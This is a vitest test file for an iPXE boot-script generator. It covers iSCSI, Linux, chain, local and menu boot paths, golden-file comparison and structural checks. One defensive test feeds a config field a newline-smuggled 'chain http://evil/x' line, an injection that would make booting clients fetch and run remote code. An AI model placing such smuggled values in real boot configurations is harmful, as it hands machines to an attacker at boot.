import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { parseConfig } from '../../src/config/load.js';
import type { HostConfig } from '../../src/config/types.js';
import { BootPlan } from '../../src/plan/index.js';
import { effectiveKind, ipxeScript, menuChoices, type ScriptContext } from '../../src/plan/script.js';
import type { DerivedHost } from '../../src/plan/types.js';

/**
 * Golden files: test/fixtures/scripts/<case>.ipxe. A deliberate change is
 * written back with LANBOOT_UPDATE_GOLDEN=1; a missing file is a failure (so
 * CI never "passes" by creating it).
 */
const GOLDEN = fileURLToPath(new URL('../fixtures/scripts/', import.meta.url));
const UPDATE = process.env.LANBOOT_UPDATE_GOLDEN === '1';

function golden(name: string, text: string): void {
  const file = `${GOLDEN}${name}.ipxe`;
  if (UPDATE) {
    mkdirSync(GOLDEN, { recursive: true });
    writeFileSync(file, text);
  }
  expect(existsSync(file), `${file} missing; run with LANBOOT_UPDATE_GOLDEN=1 and review it`).toBe(true);
  expect(text).toBe(readFileSync(file, 'utf8'));
}

const MAC = '52:54:00:77:00:10';
const ROOT = 'iscsi:10.77.0.1::3260:1:iqn.2010-01.lan.example:pc01';

function host(over: Partial<HostConfig> = {}): HostConfig {
  return { mac: MAC, prefix_bits: 48, name: 'pc01', ip: '10.77.0.10', boot: 'iscsi', line: 1, ...over };
}

function derived(over: Partial<HostConfig> = {}, extra: string[] = []): DerivedHost {
  const h = host(over);
  return {
    host: h,
    mac: MAC,
    name: h.name,
    hostname: h.name,
    ip: h.ip,
    iscsi: {
      portal: '10.77.0.1',
      port: 3260,
      lun: 1,
      target: 'iqn.2010-01.lan.example:pc01',
      initiator: 'iqn.2010-01.lan.example:initiator:pc01',
      rootPath: ROOT,
      extraRootPaths: extra,
    },
  };
}

function noSan(d: DerivedHost): DerivedHost {
  const { iscsi: _i, ...rest } = d;
  return rest;
}

const CTX: ScriptContext = {
  mac: MAC,
  firmware: 'bios',
  handoff: 'script',
  proxy: false,
  serverAddress: '10.77.0.1',
  httpBase: 'http://10.77.0.1:8080',
  values: {
    name: 'pc01', mac: MAC, mac_hyphen: MAC.replace(/:/g, '-'), mac_hex: MAC.replace(/:/g, ''), ip: '10.77.0.10',
    server: '10.77.0.1', http: '10.77.0.1:8080', tftp: '10.77.0.1', iqn: 'iqn.2010-01.lan.example:initiator:pc01', target: 'iqn.2010-01.lan.example:pc01',
  },
};

/**
 * What iPXE would reject or where it would stop silently: every goto needs its
 * label, every command that can fail needs an || (a failing line without one
 * ends the script), and the first line must be the #!ipxe signature.
 */
function checkStructure(script: string): void {
  const lines = script.split('\n').filter((l) => l.trim() !== '');
  expect(lines[0]).toBe('#!ipxe');
  const labels = new Set(lines.filter((l) => l.startsWith(':')).map((l) => l.slice(1)));
  const items = lines.filter((l) => l.startsWith('item ') && !l.startsWith('item --gap')).map((l) => l.replace(/^item (--key \S+ )?/, '').split(' ')[0]!);
  const keys = lines.map((l) => /^item --key (\S+) /.exec(l)?.[1]).filter(Boolean);
  expect(new Set(keys).size, 'menu shortcut keys are unique').toBe(keys.length);
  for (const l of lines) {
    for (const m of l.matchAll(/goto (\S+)/g)) {
      if (m[1] === '${target}') for (const i of items) expect(labels, `menu item ${i} has no label`).toContain(i);
      else expect(labels, `goto ${m[1]} has no label`).toContain(m[1]);
    }
    if (/^(sanhook|sanboot|kernel|initrd|boot|chain|imgfree|sanunhook|choose|prompt)\b/.test(l)) {
      expect(l, 'a command that can fail must be followed by ||').toMatch(/\|\|/);
    }
  }
  // Every path ends in exit, shell, a loop or a boot: no fall-through past the end.
  expect(lines[lines.length - 1]).toMatch(/^(goto \S+|exit( \d+)?)$/);
}

const CASES: Array<[string, DerivedHost | undefined, Partial<ScriptContext>]> = [
  ['iscsi-bios', derived(), {}],
  ['iscsi-uefi', derived(), { firmware: 'uefi64' }],
  ['iscsi-uefi-filename', derived(), { firmware: 'uefi64', sanFilename: '\\EFI\\debian\\shimx64.efi' }],
  ['iscsi-unknown-firmware', derived(), { firmware: 'unknown' }],
  ['iscsi-two-drives', derived({ drives: ['iqn.2010-01.lan.example:{name}-data'] }, ['iscsi:10.77.0.1::3260:1:iqn.2010-01.lan.example:pc01-data', 'iscsi:10.77.0.1::3260:1:iqn.2010-01.lan.example:pc01-swap']), {}],
  ['iscsi-proxy', derived(), { proxy: true }],
  ['iscsi-dhcp-handoff', derived(), { handoff: 'dhcp' }],
  ['linux', noSan(derived({ boot: 'linux', kernel: 'debian/vmlinuz', initrd: 'debian/initrd.gz', cmdline: 'console=ttyS0 hostname={name} ip={ip}' })), {}],
  ['linux-absolute-urls', noSan(derived({ boot: 'linux', kernel: 'http://mirror.lan/vmlinuz', initrd: 'tftp://10.77.0.1/initrd.gz', cmdline: 'initrd=custom quiet' })), {}],
  ['linux-no-http', noSan(derived({ boot: 'linux', kernel: 'vmlinuz' })), { httpBase: '' }],
  ['memdisk-iso', noSan(derived({ boot: 'linux', kernel: 'memdisk', initrd: 'images/freedos.iso' })), {}],
  ['chain-iso', noSan(derived({ boot: 'chain', chain: 'images/rescue.iso' })), {}],
  ['chain-url', noSan(derived({ boot: 'chain', chain: 'http://boot.lan/menu.ipxe' })), {}],
  ['local', noSan(derived({ boot: 'local' })), {}],
  ['local-with-san', derived({ boot: 'local' }), {}],
  ['none', noSan(derived({ boot: 'none' })), {}],
  ['menu', derived({ boot: 'menu', menu: ['iscsi', 'linux', 'local'], kernel: 'vmlinuz', initrd: 'initrd.img', reset: ['/usr/local/sbin/reset-cow', '{name}'] }), {}],
  ['menu-auto-no-http', derived({ boot: 'menu', chain: 'tools.ipxe', reset: ['/bin/true'] }), { httpBase: '' }],
  ['script-kind-picks-san', derived({ boot: 'script' }), {}],
  ['unknown-client', undefined, { mac: '52:54:00:99:99:99' }],
];

describe('ipxeScript golden files', () => {
  for (const [name, d, over] of CASES) {
    it(name, () => {
      const s = ipxeScript(d, { ...CTX, ...over });
      checkStructure(s);
      golden(name, s);
    });
  }
});

describe('ipxeScript semantics', () => {
  it('iSCSI: initiator set before the first attach, RFC 4173 URI from the derived root-path, boot drive 0x80 kept', () => {
    const s = ipxeScript(derived(), CTX);
    const lines = s.split('\n');
    const iqn = lines.findIndex((l) => l === 'set initiator-iqn iqn.2010-01.lan.example:initiator:pc01');
    const hook = lines.findIndex((l) => l.startsWith(`sanhook --drive 0x80 ${ROOT}`));
    expect(iqn).toBeGreaterThan(0);
    expect(hook).toBeGreaterThan(iqn);
    expect(s).toContain('sanboot --keep --drive 0x80 || goto boot_failed');
    expect(s).not.toMatch(/--filename/);
  });

  it('never attaches a root-path iPXE already hooked from option 17 (runtime check before sanhook)', () => {
    const s = ipxeScript(derived(), { ...CTX, handoff: 'dhcp' });
    const lines = s.split('\n');
    const check = lines.findIndex((l) => l === `iseq x\${root-path} x${ROOT} && goto boot_hooked ||`);
    const hook = lines.findIndex((l) => l.startsWith('sanhook --drive 0x80'));
    expect(check).toBeGreaterThan(-1);
    expect(check).toBeLessThan(hook);
    // and the failure path leaves that DHCP-hooked drive alone
    expect(s).toContain(`iseq x\${root-path} x${ROOT} || sanunhook --drive 0x80 ||`);
  });

  it('proxyDHCP: the script carries the whole handoff (initiator + sanhook with the URI)', () => {
    const s = ipxeScript(derived(), { ...CTX, proxy: true });
    expect(s).toContain('set initiator-iqn iqn.2010-01.lan.example:initiator:pc01');
    expect(s).toContain(`sanhook --drive 0x80 ${ROOT} ||`);
  });

  it('extra drives are hooked as 0x81, 0x82 and unhooked on failure; the boot drive stays 0x80', () => {
    const s = ipxeScript(derived({}, ['iscsi:a::3260:1:t1', 'iscsi:a::3260:1:t2']), CTX);
    expect(s).toContain('sanhook --drive 0x81 iscsi:a::3260:1:t1 || goto boot_failed');
    expect(s).toContain('sanhook --drive 0x82 iscsi:a::3260:1:t2 || goto boot_failed');
    expect(s).toContain('sanunhook --drive 0x81 ||');
    expect(s).toContain('sanunhook --drive 0x82 ||');
    expect(s).toMatch(/sanboot --keep --drive 0x80 \|\|/);
  });

  it('UEFI gets --filename with the removable-media loader for its architecture', () => {
    expect(ipxeScript(derived(), { ...CTX, firmware: 'uefi64' })).toContain('--filename \\EFI\\BOOT\\BOOTX64.EFI');
    expect(ipxeScript(derived(), { ...CTX, firmware: 'arm64' })).toContain('--filename \\EFI\\BOOT\\BOOTAA64.EFI');
    expect(ipxeScript(derived(), { ...CTX, firmware: 'uefi32' })).toContain('--filename \\EFI\\BOOT\\BOOTIA32.EFI');
  });

  it('Linux: initrd= names the initrd for the EFI stub, templates expand, relative paths go to the HTTP base', () => {
    const s = ipxeScript(noSan(derived({ boot: 'linux', kernel: 'k/{name}.vmlinuz', initrd: 'k/initrd.gz', cmdline: 'root=/dev/nfs host={name} mac={mac}' })), CTX);
    expect(s).toContain(`kernel http://10.77.0.1:8080/k/pc01.vmlinuz initrd=initrd.gz root=/dev/nfs host=pc01 mac=${MAC} || goto boot_failed`);
    expect(s).toContain('initrd http://10.77.0.1:8080/k/initrd.gz || goto boot_failed');
    expect(s).toContain('boot || goto boot_failed');
  });

  it('a newline in a config value cannot inject a script line', () => {
    const s = ipxeScript(noSan(derived({ boot: 'linux', kernel: 'vmlinuz', cmdline: 'quiet\nchain http://evil/x' })), CTX);
    expect(s.split('\n').some((l) => l.startsWith('chain http://evil'))).toBe(false);
  });

  it('menu: choose with default = first choice and a timeout; reset item only when HTTP and a reset hook exist', () => {
    const d = derived({ boot: 'menu', menu: ['linux', 'iscsi'], kernel: 'vmlinuz', reset: ['/bin/true'] });
    const s = ipxeScript(d, CTX);
    expect(s).toContain('choose --default linux --timeout 5000 target || goto shell');
    expect(s).toContain(`chain --autofree http://10.77.0.1:8080/reset/${MAC} || goto reset_failed`);
    expect(ipxeScript(d, { ...CTX, httpBase: '' })).not.toContain('item reset');
    expect(ipxeScript(derived({ boot: 'menu', menu: ['iscsi'] }), CTX)).not.toContain('item reset');
  });

  it('menu choices skip what the host cannot do and always offer something', () => {
    expect(menuChoices(noSan(derived({ boot: 'menu', menu: ['iscsi', 'linux'] })))).toEqual(['local']);
    expect(menuChoices(derived({ boot: 'menu', menu: ['iscsi', 'iscsi', 'rpl', 'local'] }))).toEqual(['iscsi', 'local']);
    expect(menuChoices(derived({ boot: 'menu', kernel: 'vmlinuz' }))).toEqual(['iscsi', 'linux', 'local']);
  });

  it('boot: script picks the richest configured thing', () => {
    expect(effectiveKind(derived({ boot: 'script' }))).toBe('iscsi');
    expect(effectiveKind(noSan(derived({ boot: 'script', kernel: 'vmlinuz' })))).toBe('linux');
    expect(effectiveKind(noSan(derived({ boot: 'script' })))).toBe('local');
  });

  it('unknown clients get a message naming their MAC and fall back, never a silent stop', () => {
    const s = ipxeScript(undefined, { ...CTX, mac: '52:54:00:99:99:99' });
    expect(s).toContain('no host entry for 52:54:00:99:99:99');
    expect(s).toMatch(/prompt .* && shell \|\|\nexit 1\n$/);
  });
});

describe('the plan and the script agree (same derived values)', () => {
  const YAML = (handoff: string, mode: string) => `server: 10.77.0.1
dhcp:
  mode: ${mode}
  subnets:
    - { subnet: 10.77.0.0/24, range: 10.77.0.100-10.77.0.199 }
http: { port: 8080 }
boot:
  bios: undionly.kpxe
  uefi: snponly.efi
  script: http://{http}/boot/{mac}.ipxe
iscsi:
  target: iqn.2010-01.lan.example:{name}
  initiator: iqn.2010-01.lan.example:initiator:{name}
  handoff: ${handoff}
hosts:
  52:54:00:77:00:10: { name: pc01, ip: 10.77.0.10, boot: iscsi }
`;
  for (const [handoff, mode] of [['script', 'authoritative'], ['dhcp', 'authoritative'], ['script', 'proxy']] as const) {
    it(`handoff ${handoff}, ${mode}: the script's root-path and initiator are the plan's`, () => {
      const plan = new BootPlan(parseConfig(YAML(handoff, mode), 'lanboot.yaml'));
      const d = plan.derive(MAC, { serverAddress: '10.77.0.1' })!;
      const f = plan.file(`boot/${MAC}.ipxe`, { address: '10.77.0.10', serverAddress: '10.77.0.1' });
      expect(f).toBeDefined();
      const body = String(f!.body);
      checkStructure(body);
      expect(body).toContain(`sanhook --drive 0x80 ${d.iscsi!.rootPath} ||`);
      expect(body).toContain(`set initiator-iqn ${d.iscsi!.initiator}`);
      expect(d.iscsi!.rootPath).toBe('iscsi:10.77.0.1::3260:1:iqn.2010-01.lan.example:pc01');
    });
  }
});
